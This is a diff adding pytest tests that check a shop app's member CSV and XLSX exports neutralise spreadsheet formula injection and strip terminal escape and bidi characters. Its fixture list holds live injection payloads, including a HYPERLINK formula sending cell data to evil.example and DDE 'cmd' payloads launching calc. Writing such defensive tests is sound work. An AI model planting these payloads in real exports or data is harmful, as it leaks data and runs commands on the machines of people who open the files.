@@ -111,3 +111,106 @@ def test_reprint_preview_in_a_terminal_has_no_escape(hostile_sale, tmp_path):
     assert "\x1b" not in out and b"\x1b" not in proc.stderr and "\x9b" not in out
     assert "\x07" not in out and "\u202e" not in out
     assert "Ap0B" in out and TEA_CLEAN in out and sale.receipt_no in out
+
+
+# --- exports: no formula, no broken workbook ---------------------------------------------------
+HOSTILE_NAMES = [
+    '=HYPERLINK("http://evil.example/?"&C2,"Click for your voucher")',
+    '+cmd|" /C calc"!A0',
+    '-2+3+cmd|" /C calc"!A0',
+    '@SUM(1+1)*cmd|" /C calc"!A0',
+    "\t=1+1",
+    "\r=1+1",
+    "#N/A",
+    "Esc\x1b[31mName\x07\u202e",
+]
+# What each reads as once made safe: the same text, control characters and bidi overrides removed.
+SHOWN = [n.replace("\x1b", "").replace("\x07", "").replace("\u202e", "") for n in HOSTILE_NAMES]
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+@pytest.fixture
+def hostile_members(ctx):
+    """Members (each with one purchase, for the RFM export) whose names and tags were written
+    before input was checked."""
+    stock_shop(ctx)
+    ids = []
+    for i, _ in enumerate(HOSTILE_NAMES):
+        m = member(ctx, phone=f"139001390{i:02d}", name=f"Member {i}")
+        checkout(ctx, Cart((CartLine("TEA"),), member_id=m.id), [Tender("cash", 3333)])
+        ids.append(m.id)
+    for mid, name in zip(ids, HOSTILE_NAMES):
+        _set(ctx, update(Member).where(Member.id == mid).values(name=name))
+    with ctx.tx() as t:
+        t.s.add(MemberTag(member_id=ids[0], tag="=1+2"))
+        t.s.add(MemberTag(member_id=ids[1], tag="@x\x1b"))
+    return ctx, ids
+
+
+def _export(kind: str, ctx, path: Path) -> None:
+    if kind == "members":
+        from app.services.member_export import export_members
+
+        export_members(ctx, path)
+    else:
+        from app.services.analytics.export import export_member_analytics
+
+        export_member_analytics(ctx, path)
+
+
+@pytest.mark.parametrize("kind", ["members", "rfm"])
+def test_csv_export_writes_hostile_text_as_text(hostile_members, tmp_path, kind):
+    ctx, ids = hostile_members
+    out = tmp_path / f"{kind}.csv"
+    _export(kind, ctx, out)
+    with open(out, encoding="utf-8-sig", newline="") as f:
+        rows = list(csv.DictReader(f))
+    names = {int(r["member_id"]): r["name"] for r in rows}
+    for mid, shown in zip(ids, SHOWN):
+        cell = names[mid]
+        if shown.startswith(FORMULA_START):
+            assert cell == "'" + shown       # OWASP: a leading quote, the text itself kept
+        else:
+            assert cell == shown
+    for r in rows:
+        for column, value in r.items():
+            assert not value.startswith(("=", "@", "\t", "\r")), (column, value)
+            assert "\x1b" not in value and "\x07" not in value and "\u202e" not in value
+    if kind == "members":
+        tags = {int(r["member_id"]): r["tags"] for r in rows}
+        assert tags[ids[0]] == "'=1+2" and tags[ids[1]] == "'@x"
+
+
+@pytest.mark.parametrize("kind", ["members", "rfm"])
+def test_xlsx_export_has_no_formula_and_keeps_the_text(hostile_members, tmp_path, kind):
+    ctx, ids = hostile_members
+    out = tmp_path / f"{kind}.xlsx"
+    _export(kind, ctx, out)                # an ESC in a name used to raise IllegalCharacterError
+    with zipfile.ZipFile(out) as z:
+        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/")]
+        assert sheets
+        for name in sheets:
+            xml = z.read(name).decode("utf-8")
+            assert "<f>" not in xml and "<f " not in xml and 't="e"' not in xml
+    wb = openpyxl.load_workbook(out)
+    ws = wb.worksheets[0]
+    header = [c.value for c in ws[1]]
+    by_id = {}
+    for row in ws.iter_rows(min_row=2):
+        assert all(c.data_type != "f" for c in row)
+        by_id[row[header.index("member_id")].value] = row[header.index("name")]
+    for mid, shown in zip(ids, SHOWN):
+        # exactly as typed, as text (an XML reader reads a CR as a LF: XML's own line-end rule)
+        assert by_id[mid].value == shown.replace("\r", "\n") and by_id[mid].data_type == "s"
+    if kind == "members":
+        tags = {row[0].value: row[header.index("tags")].value for row in ws.iter_rows(min_row=2)}
+        assert tags[ids[0]] == "=1+2" and tags[ids[1]] == "@x"
+
+
+def test_csv_text_leaves_numbers_and_phones_alone():
+    from app.services.export import csv_text
+
+    assert csv_text("-12.50") == "-12.50" and csv_text("+5") == "+5" and csv_text("-3") == "-3"
+    assert csv_text("+8613800138000") == "+8613800138000" and csv_text("+86 138 0013 8000") == "+86 138 0013 8000"
+    assert csv_text("+86-138") == "'+86-138" and csv_text("-1+2") == "'-1+2" and csv_text("=1") == "'=1"
+    assert csv_text("@A1") == "'@A1" and csv_text("王芳") == "王芳" and csv_text("a=b") == "a=b"
